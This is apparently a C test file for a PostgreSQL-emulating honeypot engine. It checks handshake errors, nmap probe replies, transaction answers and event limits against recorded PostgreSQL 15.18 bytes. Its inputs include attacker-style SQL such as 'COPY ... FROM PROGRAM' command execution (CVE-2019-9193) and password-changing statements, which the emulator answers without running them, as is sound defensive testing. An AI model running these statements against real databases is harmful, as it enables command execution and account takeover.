/*
 * test_pgsql.c - the PostgreSQL look-alike's session engine (src/proto/pgsql.c)
 * without sockets: SSLRequest / GSSENCRequest refused with 'N', the
 * StartupMessage parameters, the cleartext and MD5 password requests, the
 * exact FATAL 28P01 after a wrong password, the "unsupported frontend
 * protocol" error nmap identifies releases by, a missing user name, a bad
 * startup length, login after accept_after with the ParameterStatus set,
 * simple queries, and input fed byte by byte; the bounds on what Query
 * messages can make it do (statements per message and per connection, the
 * text kept per event), each one recorded in the events.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "buf.h"
#include "event.h"
#include "output.h"
#include "proto/pgsql.h"

static struct hp_evctx ctx = { .session = "000000000002", .protocol = "postgresql", .service = "t",
                               .transport = "tcp", .src_ip = "10.0.0.9", .dst_ip = "10.0.0.2",
                               .src_port = 40000, .dst_port = 5432 };

static struct hp_pg_conf conf(bool md5, uint64_t accept_after)
{
    struct hp_pg_conf cf = { 0 };
    hp_pg_conf_version(&cf, "13.8 (Debian 13.8-0+deb11u1)");
    cf.md5 = md5;
    cf.accept_after = accept_after;
    cf.max_query = 1 << 20;
    return cf;
}

static void be32(struct hp_buf *b, uint32_t v)
{
    uint8_t t[4] = { (uint8_t)(v >> 24), (uint8_t)(v >> 16), (uint8_t)(v >> 8), (uint8_t)v };
    hp_buf_put(b, t, 4);
}

static void startup(struct hp_buf *b, const char *const *kv, size_t n)
{
    struct hp_buf body;
    hp_buf_init(&body, 4096);
    be32(&body, 3u << 16);
    for (size_t i = 0; i < n; i++)
        hp_buf_put(&body, kv[i], strlen(kv[i]) + 1);
    hp_buf_putc(&body, 0);
    be32(b, (uint32_t)body.len + 4);
    hp_buf_put(b, body.data, body.len);
    hp_buf_free(&body);
}

static void typed(struct hp_buf *b, char type, const char *text)
{
    hp_buf_putc(b, (uint8_t)type);
    be32(b, (uint32_t)strlen(text) + 5);
    hp_buf_put(b, text, strlen(text) + 1);
}

/* Message types of s->out in order ("RSSSKZ" ...). */
static void types(const struct hp_buf *out, char *t, size_t tlen)
{
    size_t off = 0, k = 0;
    while (off + 5 <= out->len && k < tlen - 1) {
        t[k++] = (char)out->data[off];
        uint32_t len = (uint32_t)out->data[off + 1] << 24 | (uint32_t)out->data[off + 2] << 16 |
                       (uint32_t)out->data[off + 3] << 8 | out->data[off + 4];
        off += 1 + len;
    }
    assert_int_equal(off, out->len);
    t[k] = '\0';
}

/* A field of the first ErrorResponse. */
static const char *field(const struct hp_buf *out, char f)
{
    assert_int_equal(out->data[0], 'E');
    const char *p = (const char *)out->data + 5;
    while (*p) {
        if (*p == f)
            return p + 1;
        p += strlen(p) + 1;
    }
    return NULL;
}

static const char *const params[] = { "user", "postgres", "database", "postgres", "application_name", "psql",
                                      "client_encoding", "UTF8" };

/* The session, the input buffer and the configuration's version string. */
static void pg_close(struct hp_pg_conf *cf, struct hp_pg_sess *s, struct hp_buf *in)
{
    hp_pg_sess_free(s);
    hp_buf_free(in);
    free(cf->version);
}

static void test_ssl_startup_fail(void **st)
{
    (void)st;
    hp_pg_sources_reset();
    struct hp_pg_conf cf = conf(false, 0);
    struct hp_pg_sess s;
    hp_pg_sess_init(&s, &cf, &ctx);
    struct hp_buf in;
    hp_buf_init(&in, 4096);
    be32(&in, 8);
    be32(&in, 80877103);
    assert_int_equal(hp_pg_input(&s, in.data, in.len), 8);
    assert_int_equal(s.out.len, 1);
    assert_int_equal(s.out.data[0], 'N');
    hp_buf_reset(&s.out);
    hp_buf_reset(&in);
    startup(&in, params, 8);
    assert_int_equal(hp_pg_input(&s, in.data, in.len), in.len);
    assert_string_equal(s.user, "postgres");
    assert_string_equal(s.db, "postgres");
    assert_string_equal(s.app, "psql");
    assert_int_equal(s.out.len, 9);
    assert_memory_equal(s.out.data, "R\0\0\0\x08\0\0\0\x03", 9);
    hp_buf_reset(&s.out);
    hp_buf_reset(&in);
    typed(&in, 'p', "hunter2");
    assert_int_equal(hp_pg_input(&s, in.data, in.len), in.len);
    char t[32];
    types(&s.out, t, sizeof(t));
    assert_string_equal(t, "E");
    assert_string_equal(field(&s.out, 'S'), "FATAL");
    assert_string_equal(field(&s.out, 'V'), "FATAL");
    assert_string_equal(field(&s.out, 'C'), "28P01");
    assert_string_equal(field(&s.out, 'M'), "password authentication failed for user \"postgres\"");
    assert_string_equal(field(&s.out, 'R'), "auth_failed");
    assert_true(s.closing);
    hp_buf_free(&in);
    hp_pg_sess_free(&s);
    free(cf.version);
}

static void test_md5_and_errors(void **st)
{
    (void)st;
    struct hp_pg_conf cf = conf(true, 0);
    struct hp_pg_sess s;
    hp_pg_sess_init(&s, &cf, &ctx);
    struct hp_buf in;
    hp_buf_init(&in, 4096);
    startup(&in, params, 2);
    hp_pg_input(&s, in.data, in.len);
    assert_int_equal(s.out.len, 13);
    assert_memory_equal(s.out.data, "R\0\0\0\x0c\0\0\0\x05", 9);
    assert_memory_equal(s.out.data + 9, s.salt, 4);
    assert_string_equal(s.db, "postgres");       /* database defaults to the user */
    hp_pg_sess_free(&s);

    /* nmap's SMB probe read as a startup packet. */
    hp_pg_sess_init(&s, &cf, &ctx);
    static const uint8_t smb[] = "\0\0\0\xa4\xff\x53\x4d\x42\x72\0\0\0\0\x08\x01\x40";
    hp_buf_reset(&in);
    hp_buf_put(&in, smb, sizeof(smb) - 1);
    static uint8_t pad[0xa4];
    hp_buf_put(&in, pad, 0xa4 - (sizeof(smb) - 1));
    assert_int_equal(hp_pg_input(&s, in.data, in.len), in.len);
    assert_string_equal(field(&s.out, 'C'), "0A000");
    assert_string_equal(field(&s.out, 'M'), "unsupported frontend protocol 65363.19778: server supports 2.0 to 3.0");
    assert_string_equal(field(&s.out, 'F'), "postmaster.c");
    assert_string_equal(field(&s.out, 'L'), "2133");
    assert_string_equal(field(&s.out, 'R'), "ProcessStartupPacket");
    assert_true(s.closing);
    hp_pg_sess_free(&s);

    /* No user name. */
    hp_pg_sess_init(&s, &cf, &ctx);
    hp_buf_reset(&in);
    startup(&in, params + 2, 2);
    hp_pg_input(&s, in.data, in.len);
    assert_string_equal(field(&s.out, 'C'), "28000");
    hp_pg_sess_free(&s);

    /* A length below 8: closed without an answer. */
    hp_pg_sess_init(&s, &cf, &ctx);
    assert_int_equal(hp_pg_input(&s, (const uint8_t *)"\0\0\0\x04xxxx", 8), 8);
    assert_true(s.closing);
    assert_int_equal(s.out.len, 0);
    pg_close(&cf, &s, &in);
}

static void session(struct hp_buf *out_whole, bool bytewise)
{
    hp_pg_sources_reset();
    struct hp_pg_conf cf = conf(false, 1);
    struct hp_pg_sess s;
    hp_pg_sess_init(&s, &cf, &ctx);
    s.pid = 4242;
    s.key = 7;
    struct hp_buf in;
    hp_buf_init(&in, 4096);
    startup(&in, params, 8);
    typed(&in, 'p', "pw");
    typed(&in, 'Q', "select version(); SELECT 1; create table t(x text); copy t from program 'id'");
    typed(&in, 'Q', " ; ");
    typed(&in, 'Q', "bogus");
    typed(&in, 'X', "");
    size_t used = 0;
    if (bytewise)
        for (size_t fed = 1; fed <= in.len; fed++)
            used += hp_pg_input(&s, in.data + used, fed - used);
    else
        used = hp_pg_input(&s, in.data, in.len);
    assert_int_equal(used, in.len);
    assert_true(s.closing);
    if (!bytewise) {
        char t[64];
        types(&s.out, t, sizeof(t));
        assert_string_equal(t, "RRSSSSSSSSSSSKZTDCTDCCCZIZEZ");
        assert_non_null(memmem(s.out.data, s.out.len, "server_version\0" "13.8 (Debian 13.8-0+deb11u1)", 44));
        assert_non_null(memmem(s.out.data, s.out.len, "CREATE TABLE", 12));
        assert_non_null(memmem(s.out.data, s.out.len, "syntax error at or near \"bogus\"", 31));
        hp_buf_put(out_whole, s.out.data, s.out.len);
    } else {
        assert_true(s.out.len == out_whole->len && memcmp(s.out.data, out_whole->data, s.out.len) == 0);
    }
    hp_buf_free(&in);
    hp_pg_sess_free(&s);
    free(cf.version);
}

static void test_login_and_queries(void **st)
{
    (void)st;
    struct hp_buf whole;
    hp_buf_init(&whole, 1 << 16);
    session(&whole, false);
    session(&whole, true);
    hp_buf_free(&whole);
}

/* command.input events caught from the output tap, and how many said they were cut. */
static size_t n_cmd, n_stmts_cut, n_input_cut, n_login, n_copy_program;
static char last_input[256], last_program[256];   /* JSON-escaped, as in the event */
static unsigned long long last_input_length;

/* The JSON string value of key in json (cut to outlen - 1). */
static void json_value(const char *json, const char *key, char *out, size_t outlen)
{
    const char *p = strstr(json, key);
    size_t k = 0;
    if (p)
        for (p += strlen(key); *p && k < outlen - 1 && !(*p == '"' && p[-1] != '\\'); p++)
            out[k++] = *p;
    out[k] = '\0';
}

static void tap(struct hp_event *e, void *arg)
{
    (void)arg;
    n_login += strstr(e->json, "\"eventid\":\"login.") != NULL;
    if (strstr(e->json, "\"eventid\":\"pgsql.copy_program\"")) {
        n_copy_program++;
        json_value(e->json, "\"program\":\"", last_program, sizeof(last_program));
    }
    if (!strstr(e->json, "\"eventid\":\"command.input\""))
        return;
    json_value(e->json, "\"input\":\"", last_input, sizeof(last_input));
    const char *il = strstr(e->json, "\"input_length\":");
    last_input_length = il ? strtoull(il + 15, NULL, 10) : 0;
    n_cmd++;
    n_stmts_cut += strstr(e->json, "\"statements_truncated\":true") != NULL;
    n_input_cut += strstr(e->json, "\"input_truncated\":true") != NULL;
}

static void logged_in(struct hp_pg_sess *s, const struct hp_pg_conf *cf)
{
    hp_pg_sources_reset();
    hp_pg_sess_init(s, cf, &ctx);
    struct hp_buf in;
    hp_buf_init(&in, 4096);
    startup(&in, params, 8);
    typed(&in, 'p', "pw");
    assert_int_equal(hp_pg_input(s, in.data, in.len), in.len);
    assert_false(s->closing);
    hp_buf_reset(&s->out);
    hp_buf_free(&in);
}

static size_t count_type(const struct hp_buf *out, char type)
{
    char t[8192];
    size_t k = 0;
    types(out, t, sizeof(t));
    for (size_t i = 0; t[i]; i++)
        k += t[i] == type;
    return k;
}

/*
 * A Query of 100 statements: 64 answered (as mysql.c's multi-statements)
 * and the cut said in the last event.  A connection answered every Query
 * it was sent, each up to 64 command events and 64 answers: 1000
 * statements per connection now (mssql.c's 1000 batches), an empty query
 * counting one, then it is closed.  A statement over 64 KiB is kept cut,
 * with its length.
 */
static void test_statement_bounds(void **st)
{
    (void)st;
    struct hp_pg_conf cf = conf(false, 1);
    struct hp_pg_sess s;
    struct hp_buf q, in;
    hp_buf_init(&q, 1 << 20);
    hp_buf_init(&in, 4 << 20);
    logged_in(&s, &cf);
    for (int i = 0; i < 100; i++)
        hp_buf_puts(&q, "select 1;");
    hp_buf_putc(&q, 0);
    typed(&in, 'Q', (const char *)q.data);
    n_cmd = n_stmts_cut = 0;
    assert_int_equal(hp_pg_input(&s, in.data, in.len), in.len);
    assert_int_equal(n_cmd, 64);
    assert_int_equal(n_stmts_cut, 1);
    assert_int_equal(count_type(&s.out, 'C'), 64);
    assert_int_equal(count_type(&s.out, 'Z'), 1);
    /* 14 more messages of 64 make 960 statements, 40 empty queries the 1000 */
    hp_buf_reset(&s.out);
    for (int i = 0; i < 14; i++)
        assert_int_equal(hp_pg_input(&s, in.data, in.len), in.len);
    assert_false(s.closing);
    hp_buf_reset(&s.out);
    hp_buf_reset(&in);
    for (int i = 0; i < 100; i++)
        typed(&in, 'Q', "");
    assert_int_equal(hp_pg_input(&s, in.data, in.len), in.len);
    assert_true(s.closing);
    assert_string_equal(s.close_reason, "too_many_queries");
    assert_int_equal(count_type(&s.out, 'I'), 40);
    assert_int_equal(n_cmd, 960);
    hp_pg_sess_free(&s);

    /* the budget spent in the middle of a Query: the cut is recorded there */
    logged_in(&s, &cf);
    hp_buf_reset(&in);
    typed(&in, 'Q', (const char *)q.data);
    for (int i = 0; i < 15; i++)
        hp_pg_input(&s, in.data, in.len);
    assert_false(s.closing);
    n_cmd = n_stmts_cut = 0;
    hp_buf_reset(&s.out);
    assert_int_equal(hp_pg_input(&s, in.data, in.len), in.len);
    assert_int_equal(n_cmd, 1000 - 15 * 64);
    assert_int_equal(n_stmts_cut, 1);
    assert_true(s.closing);
    assert_int_equal(count_type(&s.out, 'Z'), 1);
    hp_pg_sess_free(&s);

    /* one statement of 100 KB: 64 KiB of it in the event, marked */
    logged_in(&s, &cf);
    hp_buf_reset(&q);
    hp_buf_puts(&q, "select '");
    for (int i = 0; i < 100000; i++)
        hp_buf_putc(&q, 'x');
    hp_buf_puts(&q, "'");
    hp_buf_putc(&q, 0);
    hp_buf_reset(&in);
    typed(&in, 'Q', (const char *)q.data);
    n_cmd = n_input_cut = 0;
    assert_int_equal(hp_pg_input(&s, in.data, in.len), in.len);
    assert_int_equal(n_cmd, 1);
    assert_int_equal(n_input_cut, 1);
    hp_pg_sess_free(&s);
    hp_buf_free(&q);
    hp_buf_free(&in);
    free(cf.version);
}

/*
 * The replies below are the bytes PostgreSQL 15.18 (Debian 15.18-0+deb12u1,
 * Debian 12's package) sent to the same probes, each on a fresh connection
 * (pg_hba "password" method, so the cleartext request), with the sensor
 * pinned to that version.
 */
#define PG15 "15.18 (Debian 15.18-0+deb12u1)"

static struct hp_pg_conf conf15(uint64_t accept_after)
{
    struct hp_pg_conf cf = { 0 };
    hp_pg_conf_version(&cf, PG15);
    cf.accept_after = accept_after;
    cf.max_query = 1 << 20;
    return cf;
}

/* Feed in, expect exactly exp (len n) as the answer and whether it closes. */
static void expect(struct hp_pg_sess *s, const struct hp_buf *in, const char *exp, size_t n, bool closing)
{
    hp_buf_reset(&s->out);
    assert_int_equal(hp_pg_input(s, in->data, in->len), in->len);
    assert_int_equal(s->out.len, n);
    assert_memory_equal(s->out.data, exp, n);
    assert_int_equal(s->closing, closing);
}

#define EXPECT(s, in, lit, closing) expect(s, in, lit, sizeof(lit) - 1, closing)

static const char *const params15[] = { "user", "clear", "database", "postgres" };

/* nmap's SMB probe (the -sV match is by line), protocol 2.0 (answered in the 2.0 format), a
 * second SSLRequest (read as protocol 1234.5679), a _pq_ option, no user name. */
static void test_pg15_startup(void **st)
{
    (void)st;
    hp_pg_sources_reset();
    struct hp_pg_conf cf = conf15(0);
    struct hp_pg_sess s;
    struct hp_buf in;
    hp_buf_init(&in, 4096);

    hp_pg_sess_init(&s, &cf, &ctx);
    static const uint8_t smb[] = "\0\0\0\xa4\xff\x53\x4d\x42\x72\0\0\0\0\x08\x01\x40";
    hp_buf_put(&in, smb, sizeof(smb) - 1);
    static uint8_t pad[0xa4];
    hp_buf_put(&in, pad, 0xa4 - (sizeof(smb) - 1));
    EXPECT(&s, &in, "E\x00\x00\x00\x8bSFATAL\x00VFATAL\x00"
                    "C0A000\x00Munsupported frontend protocol 65363.19778: server supports 3.0 to 3.0\x00"
                    "Fpostmaster.c\x00L2222\x00RProcessStartupPacket\x00\x00", true);
    hp_pg_sess_free(&s);

    hp_pg_sess_init(&s, &cf, &ctx);
    hp_buf_reset(&in);
    be32(&in, 8);
    be32(&in, 2u << 16);
    EXPECT(&s, &in, "EFATAL:  unsupported frontend protocol 2.0: server supports 3.0 to 3.0\x0a\x00", true);
    hp_pg_sess_free(&s);

    hp_pg_sess_init(&s, &cf, &ctx);
    hp_buf_reset(&in);
    be32(&in, 8);
    be32(&in, 80877104);        /* GSSENCRequest, then SSLRequest: one 'N' each */
    be32(&in, 8);
    be32(&in, 80877103);
    EXPECT(&s, &in, "NN", false);
    hp_buf_reset(&in);
    be32(&in, 8);
    be32(&in, 80877103);
    EXPECT(&s, &in, "E\x00\x00\x00\x89SFATAL\x00VFATAL\x00"
                    "C0A000\x00Munsupported frontend protocol 1234.5679: server supports 3.0 to 3.0\x00"
                    "Fpostmaster.c\x00L2222\x00RProcessStartupPacket\x00\x00", true);
    hp_pg_sess_free(&s);

    hp_pg_sess_init(&s, &cf, &ctx);
    hp_buf_reset(&in);
    static const char *const pq[] = { "user", "postgres", "database", "postgres", "_pq_.foo", "bar" };
    startup(&in, pq, 6);
    EXPECT(&s, &in, "v\x00\x00\x00\x15\x00\x03\x00\x00\x00\x00\x00\x01_pq_.foo\x00R\x00\x00\x00\x08\x00\x00\x00\x03",
           false);
    hp_pg_sess_free(&s);

    hp_pg_sess_init(&s, &cf, &ctx);
    hp_buf_reset(&in);
    startup(&in, params15 + 2, 2);
    EXPECT(&s, &in, "E\x00\x00\x00ySFATAL\x00VFATAL\x00"
                    "C28000\x00Mno PostgreSQL user name specified in startup packet\x00"
                    "Fpostmaster.c\x00L2351\x00RProcessStartupPacket\x00\x00", true);
    pg_close(&cf, &s, &in);
}

/* A session of user "clear" at the password request. */
static void at_password(struct hp_pg_sess *s, const struct hp_pg_conf *cf, const char *db)
{
    hp_pg_sess_init(s, cf, &ctx);
    const char *const p[] = { "user", "clear", "database", db };
    struct hp_buf in;
    hp_buf_init(&in, 4096);
    startup(&in, p, 4);
    assert_int_equal(hp_pg_input(s, in.data, in.len), in.len);
    assert_int_equal(s->state, 1);
    hp_buf_free(&in);
}

/* The password message as recv_password_packet() checks it: the type before
 * the length (a Query refused on its first byte), one C string, not empty;
 * a length the server refuses closes without a word; an unknown database
 * after the password. */
static void test_pg15_password(void **st)
{
    (void)st;
    hp_pg_sources_reset();
    struct hp_pg_conf cf = conf15(0);
    struct hp_pg_sess s;
    struct hp_buf in;
    hp_buf_init(&in, 4096);

    at_password(&s, &cf, "postgres");
    typed(&in, 'p', "");
    n_login = 0;
    EXPECT(&s, &in, "E\x00\x00\x00`SFATAL\x00VFATAL\x00"
                    "C28P01\x00Mempty password returned by client\x00"
                    "Fauth.c\x00L757\x00Rrecv_password_packet\x00\x00", true);
    assert_int_equal(n_login, 1);               /* still recorded */
    hp_pg_sess_free(&s);

    at_password(&s, &cf, "postgres");
    hp_buf_reset(&in);
    hp_buf_put(&in, "p\x00\x00\x00\x07" "abc", 8);
    EXPECT(&s, &in, "E\x00\x00\x00[SFATAL\x00VFATAL\x00"
                    "C08P01\x00Minvalid password packet size\x00"
                    "Fauth.c\x00L739\x00Rrecv_password_packet\x00\x00", true);
    hp_pg_sess_free(&s);

    at_password(&s, &cf, "postgres");
    hp_buf_reset(&in);
    hp_buf_putc(&in, 'Q');                      /* the type byte alone is enough */
    EXPECT(&s, &in, "E\x00\x00\x00nSFATAL\x00VFATAL\x00"
                    "C08P01\x00Mexpected password response, got message type 81\x00"
                    "Fauth.c\x00L718\x00Rrecv_password_packet\x00\x00", true);
    hp_pg_sess_free(&s);

    at_password(&s, &cf, "postgres");
    hp_buf_reset(&in);
    hp_buf_put(&in, "p\x00\x00\x00\x03", 5);
    EXPECT(&s, &in, "", true);
    hp_pg_sess_free(&s);

    /* 2000 bytes are within the server's 65535: a wrong password, not a bad length */
    at_password(&s, &cf, "postgres");
    hp_buf_reset(&in);
    char big[2000];
    memset(big, 'x', sizeof(big) - 1);
    big[sizeof(big) - 1] = '\0';
    typed(&in, 'p', big);
    hp_buf_reset(&s.out);
    assert_int_equal(hp_pg_input(&s, in.data, in.len), in.len);
    assert_string_equal(field(&s.out, 'C'), "28P01");
    assert_string_equal(field(&s.out, 'L'), "334");
    hp_pg_sess_free(&s);

    cf.accept_after = 1;
    hp_pg_sources_reset();
    at_password(&s, &cf, "prod");
    hp_buf_reset(&in);
    typed(&in, 'p', "secretpw");
    EXPECT(&s, &in, "R\x00\x00\x00\x08\x00\x00\x00\x00"
                    "E\x00\x00\x00YSFATAL\x00VFATAL\x00"
                    "C3D000\x00Mdatabase \"prod\" does not exist\x00"
                    "Fpostinit.c\x00L948\x00RInitPostgres\x00\x00", true);
    pg_close(&cf, &s, &in);
}

static void login15(struct hp_pg_sess *s, const struct hp_pg_conf *cf)
{
    hp_pg_sources_reset();
    at_password(s, cf, "postgres");
    struct hp_buf in;
    hp_buf_init(&in, 4096);
    typed(&in, 'p', "secretpw");
    assert_int_equal(hp_pg_input(s, in.data, in.len), in.len);
    assert_false(s->closing);
    hp_buf_free(&in);
}

/* A session logged in to the 15.18 personality (the login as 15.18 takes it)
 * and an empty input buffer: where most of the tests below start. */
static void pg15_open(struct hp_pg_conf *cf, struct hp_pg_sess *s, struct hp_buf *in)
{
    *cf = conf15(1);
    hp_buf_init(in, 4096);
    login15(s, cf);
}

static void query15(const char *q, const char *exp, size_t n)
{
    struct hp_pg_conf cf;
    struct hp_pg_sess s;
    struct hp_buf in;
    pg15_open(&cf, &s, &in);
    typed(&in, 'Q', q);
    expect(&s, &in, exp, n, false);
    pg_close(&cf, &s, &in);
}

#define QUERY15(q, lit) query15(q, lit, sizeof(lit) - 1)

/* What bots send after the login, answered as 15.18 does. */
static void test_pg15_queries(void **st)
{
    (void)st;
    QUERY15("SHOW server_version",
            "T\x00\x00\x00'\x00\x01server_version\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x19\xff\xff\xff\xff\xff\xff\x00\x00"
            "D\x00\x00\x00(\x00\x01\x00\x00\x00\x1e" "15.18 (Debian 15.18-0+deb12u1)C\x00\x00\x00\x09SHOW\x00Z\x00\x00\x00\x05I");
    QUERY15("SHOW bogus", "E\x00\x00\x00" "bSERROR\x00VERROR\x00"
                          "C42704\x00Munrecognized configuration parameter \"bogus\"\x00"
                          "Fguc.c\x00L5734\x00Rfind_option\x00\x00Z\x00\x00\x00\x05I");
    /* parsed whole before any runs: no SELECT 1 answer, the position in the string */
    n_cmd = 0;
    QUERY15("select 1; bogus 2", "E\x00\x00\x00^SERROR\x00VERROR\x00"
                                 "C42601\x00Msyntax error at or near \"bogus\"\x00P11\x00"
                                 "Fscan.l\x00L1188\x00Rscanner_yyerror\x00\x00Z\x00\x00\x00\x05I");
    assert_int_equal(n_cmd, 2);                 /* both recorded */
    QUERY15("DROP TABLE IF EXISTS cmd_exec",
            "N\x00\x00\x00sSNOTICE\x00VNOTICE\x00"
            "C00000\x00Mtable \"cmd_exec\" does not exist, skipping\x00"
            "Ftablecmds.c\x00L1310\x00RDropErrorMsgNonExistent\x00\x00"
            "C\x00\x00\x00\x0f" "DROP TABLE\x00Z\x00\x00\x00\x05I");
    QUERY15("CREATE TABLE t(x text); CREATE TABLE t(x text)",
            "C\x00\x00\x00\x11" "CREATE TABLE\x00"
            "E\x00\x00\x00_SERROR\x00VERROR\x00"
            "C42P07\x00Mrelation \"t\" already exists\x00"
            "Fheap.c\x00L1164\x00Rheap_create_with_catalog\x00\x00Z\x00\x00\x00\x05I");
    QUERY15("ALTER USER postgres WITH PASSWORD 'x'", "C\x00\x00\x00\x0f" "ALTER ROLE\x00Z\x00\x00\x00\x05I");
    QUERY15("select current_user",
            "T\x00\x00\x00%\x00\x01" "current_user\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x13\x00@\xff\xff\xff\xff\x00\x00"
            "D\x00\x00\x00\x0f\x00\x01\x00\x00\x00\x05" "clearC\x00\x00\x00\x0dSELECT 1\x00Z\x00\x00\x00\x05I");
    QUERY15("select 1",
            "T\x00\x00\x00!\x00\x01?column?\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x17\x00\x04\xff\xff\xff\xff\x00\x00"
            "D\x00\x00\x00\x0b\x00\x01\x00\x00\x00\x01" "1C\x00\x00\x00\x0dSELECT 1\x00Z\x00\x00\x00\x05I");
}

/* Transaction blocks (src/proto/pgsql_txn.c), one session, each answer the
 * bytes Debian 12's 15.18 sent to the same queries: ReadyForQuery's status
 * 'T' inside a block and 'E' once it failed, the warnings for a BEGIN in a
 * block and a ROLLBACK outside one, 25P02 for anything but the end of a
 * failed block, ROLLBACK TO mending it, an unknown savepoint (3B001), END
 * of a failed block answered ROLLBACK, RELEASE outside a block (25P01). */
static void test_pg15_transactions(void **st)
{
    (void)st;
    static const struct { const char *q, *exp; size_t n; } steps[] = {
#define STEP(q, lit) { q, lit, sizeof(lit) - 1 }
        STEP("BEGIN", "C\x00\x00\x00\x0a" "BEGIN\x00Z\x00\x00\x00\x05T"),
        STEP("BEGIN", "N\x00\x00\x00oSWARNING\x00VWARNING\x00" "C25001\x00Mthere is already a transaction in progress\x00"
                      "Fxact.c\x00L3789\x00RBeginTransactionBlock\x00\x00" "C\x00\x00\x00\x0a" "BEGIN\x00Z\x00\x00\x00\x05T"),
        STEP("SAVEPOINT a", "C\x00\x00\x00\x0eSAVEPOINT\x00Z\x00\x00\x00\x05T"),
        STEP("bogus", "E\x00\x00\x00]SERROR\x00VERROR\x00" "C42601\x00Msyntax error at or near \"bogus\"\x00P1\x00"
                      "Fscan.l\x00L1188\x00Rscanner_yyerror\x00\x00Z\x00\x00\x00\x05" "E"),
        STEP("select 1", "E\x00\x00\x00\x90SERROR\x00VERROR\x00" "C25P02\x00Mcurrent transaction is aborted, commands "
                         "ignored until end of transaction block\x00" "Fpostgres.c\x00L1081\x00Rexec_simple_query\x00\x00"
                         "Z\x00\x00\x00\x05" "E"),
        STEP("ROLLBACK TO a", "C\x00\x00\x00\x0dROLLBACK\x00Z\x00\x00\x00\x05T"),
        STEP("RELEASE b", "E\x00\x00\x00XSERROR\x00VERROR\x00" "C3B001\x00Msavepoint \"b\" does not exist\x00"
                          "Fxact.c\x00L4368\x00RReleaseSavepoint\x00\x00Z\x00\x00\x00\x05" "E"),
        STEP("END", "C\x00\x00\x00\x0dROLLBACK\x00Z\x00\x00\x00\x05I"),
        STEP("ROLLBACK", "N\x00\x00\x00lSWARNING\x00VWARNING\x00" "C25P01\x00Mthere is no transaction in progress\x00"
                         "Fxact.c\x00L4110\x00RUserAbortTransactionBlock\x00\x00" "C\x00\x00\x00\x0dROLLBACK\x00Z\x00\x00\x00\x05I"),
        STEP("RELEASE a", "E\x00\x00\x00ySERROR\x00VERROR\x00" "C25P01\x00MRELEASE SAVEPOINT can only be used in "
                          "transaction blocks\x00" "Fxact.c\x00L3587\x00RCheckTransactionBlock\x00\x00Z\x00\x00\x00\x05I"),
        /* the block a query string opens stays open after it */
        STEP("select 1; BEGIN", "T\x00\x00\x00!\x00\x01?column?\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x17\x00\x04\xff\xff"
                                "\xff\xff\x00\x00" "D\x00\x00\x00\x0b\x00\x01\x00\x00\x00\x01" "1C\x00\x00\x00\x0dSELECT 1\x00"
                                "C\x00\x00\x00\x0a" "BEGIN\x00Z\x00\x00\x00\x05T"),
        STEP("COMMIT", "C\x00\x00\x00\x0b" "COMMIT\x00Z\x00\x00\x00\x05I"),
#undef STEP
    };
    struct hp_pg_conf cf;
    struct hp_pg_sess s;
    struct hp_buf in;
    pg15_open(&cf, &s, &in);
    for (size_t i = 0; i < sizeof(steps) / sizeof(steps[0]); i++) {
        typed(&in, 'Q', steps[i].q);
        expect(&s, &in, steps[i].exp, steps[i].n, false);
        hp_buf_reset(&in);
    }
    pg_close(&cf, &s, &in);
}

/* COPY t FROM PROGRAM (CVE-2019-9193) through the emulated shell, never
 * run: "COPY n" for the n lines it printed, which SELECT * FROM t returns
 * under the table's column (its OID the session's), as 15.18 answered the
 * same queries; a failing program is ERROR 38000 with the exit status or
 * "command not found" as DETAIL; DROP TABLE takes the rows with it. */
static void test_pg15_copy_from_program(void **st)
{
    (void)st;
    struct hp_pg_conf cf;
    struct hp_pg_sess s;
    struct hp_buf in;
    pg15_open(&cf, &s, &in);
    typed(&in, 'Q', "CREATE TABLE cmd_exec(cmd_output text)");
    EXPECT(&s, &in, "C\x00\x00\x00\x11" "CREATE TABLE\x00Z\x00\x00\x00\x05I", false);
    hp_buf_reset(&in);
    typed(&in, 'Q', "COPY cmd_exec FROM PROGRAM 'echo one; echo ''two'''");
    EXPECT(&s, &in, "C\x00\x00\x00\x0b" "COPY 2\x00Z\x00\x00\x00\x05I", false);
    hp_buf_reset(&in);
    typed(&in, 'Q', "SELECT * FROM cmd_exec");
    char want[256];
    uint32_t oid = s.table_oid0;
    assert_true(oid >= 16384 && oid < 17000);
    size_t n = 0;
    memcpy(want + n, "T\x00\x00\x00#\x00\x01" "cmd_output\x00", 18), n += 18;
    want[n++] = (char)(oid >> 24), want[n++] = (char)(oid >> 16), want[n++] = (char)(oid >> 8), want[n++] = (char)oid;
    static const char rest[] = "\x00\x01\x00\x00\x00\x19\xff\xff\xff\xff\xff\xff\x00\x00"
                               "D\x00\x00\x00\x0d\x00\x01\x00\x00\x00\x03one"
                               "D\x00\x00\x00\x0d\x00\x01\x00\x00\x00\x03two"
                               "C\x00\x00\x00\x0dSELECT 2\x00Z\x00\x00\x00\x05I";
    memcpy(want + n, rest, sizeof(rest) - 1), n += sizeof(rest) - 1;
    expect(&s, &in, want, n, false);
    hp_buf_reset(&in);
    typed(&in, 'Q', "COPY cmd_exec FROM PROGRAM 'false'");
    EXPECT(&s, &in, "E\x00\x00\x00\x81SERROR\x00VERROR\x00" "C38000\x00Mprogram \"false\" failed\x00"
                    "Dchild process exited with exit code 1\x00" "Fcopyfrom.c\x00L1622\x00RClosePipeFromProgram\x00\x00"
                    "Z\x00\x00\x00\x05I", false);
    hp_buf_reset(&in);
    typed(&in, 'Q', "COPY cmd_exec FROM PROGRAM 'nosuchcmd'");
    EXPECT(&s, &in, "E\x00\x00\x00qSERROR\x00VERROR\x00" "C38000\x00Mprogram \"nosuchcmd\" failed\x00"
                    "Dcommand not found\x00" "Fcopyfrom.c\x00L1622\x00RClosePipeFromProgram\x00\x00"
                    "Z\x00\x00\x00\x05I", false);
    hp_buf_reset(&in);
    typed(&in, 'Q', "DROP TABLE cmd_exec; CREATE TABLE cmd_exec(o text); SELECT * FROM cmd_exec");
    hp_buf_reset(&s.out);
    assert_int_equal(hp_pg_input(&s, in.data, in.len), in.len);
    assert_non_null(memmem(s.out.data, s.out.len, "C\x00\x00\x00\x0dSELECT 0\x00Z", 15));
    assert_non_null(memmem(s.out.data, s.out.len, "T\x00\x00\x00\x1a\x00\x01o\x00", 10));
    pg_close(&cf, &s, &in);
